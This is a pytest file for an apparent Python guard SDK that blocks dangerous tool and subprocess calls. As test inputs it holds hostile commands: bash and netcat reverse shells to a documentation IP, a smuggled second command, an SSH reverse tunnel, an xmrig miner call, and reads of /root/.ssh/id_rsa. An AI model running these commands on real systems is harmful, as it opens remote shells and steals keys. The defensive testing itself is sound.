"""The Python SDK: `corral.guarded` and the `corral.subprocess` drop-in."""

from __future__ import annotations

import asyncio
from pathlib import Path
from types import MappingProxyType
from typing import Any

import pytest

import corral
from corral import Blocked, Guard, guarded
from corral import subprocess as csub

GUARD = Guard("default")


def test_guarded_tool_maps_through_the_tool_mapping() -> None:
    ran: list[str] = []

    @guarded(guard=GUARD)
    def run_shell(command: str, timeout: int = 10) -> str:
        ran.append(command)
        return "ok"

    assert run_shell("ls -la") == "ok"
    with pytest.raises(Blocked) as blocked:
        run_shell("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")
    assert blocked.value.decision.decision == "deny"
    assert any(r.id.startswith("CR-SHL") for r in blocked.value.decision.rules)
    assert ran == ["ls -la"]


def test_guarded_with_mapper_and_async() -> None:
    def as_read(path: str) -> dict[str, Any]:
        return {"kind": "file", "op": "read", "path": path}

    @guarded(guard=GUARD, mapper=as_read)
    async def load(path: str) -> str:
        return "content"

    assert asyncio.run(load("/etc/os-release")) == "content"
    with pytest.raises(Blocked):
        asyncio.run(load("/root/.ssh/id_rsa"))


def test_subprocess_runs_allowed_commands_and_blocks_others(tmp_path: Path) -> None:
    csub.configure(GUARD)
    done = csub.run(["echo", "hello"], capture_output=True, text=True, check=True)
    assert done.stdout == "hello\n"
    assert csub.check_output("echo hi", shell=True) == b"hi\n"
    marker = tmp_path / "marker"
    with pytest.raises(Blocked):
        csub.run(f"touch {marker}; nc -e /bin/sh 198.51.100.7 4444", shell=True)
    with pytest.raises(Blocked):
        csub.Popen(["ssh", "-R", "8080:localhost:22", "u@relay.example.net"])
    with pytest.raises(Blocked):
        csub.check_call(["xmrig", "-o", "pool.supportxmr.com:443"])
    assert not marker.exists()
    with csub.Popen(["true"], stdout=csub.DEVNULL) as proc:
        assert proc.wait() == 0
    assert csub.call(["true"]) == 0


def test_public_facade_is_still_guard() -> None:
    assert corral.Guard is Guard
    assert "Guard" in corral.__all__ and "guarded" in corral.__all__


def test_any_environment_mapping_is_judged() -> None:
    env = MappingProxyType(  # a mapping that is not a dict, as os.environ is not
        {"LD_PRELOAD": "/tmp/x.so"}
    )
    action = csub.action_for(["true"], {"env": env})
    assert action["env"] == {"LD_PRELOAD": "/tmp/x.so"}


def test_a_shell_call_is_judged_as_the_argv_popen_runs(tmp_path: Path) -> None:
    csub.configure(GUARD)
    marker = tmp_path / "marker"
    assert csub.action_for("ls", {"shell": True, "executable": "/bin/bash"}) == {
        "kind": "exec",
        "argv": ["/bin/bash", "-c", "ls"],
    }
    # the script's $0 and $1 are the list's later items: the guard sees what they run
    with pytest.raises(Blocked):
        csub.run([f"touch {marker}; $0 $1", "nc", "-e /bin/sh 198.51.100.7 4444"], shell=True)
    assert not marker.exists()
    assert csub.run(["echo $0", "hi"], shell=True, capture_output=True).stdout == b"hi\n"
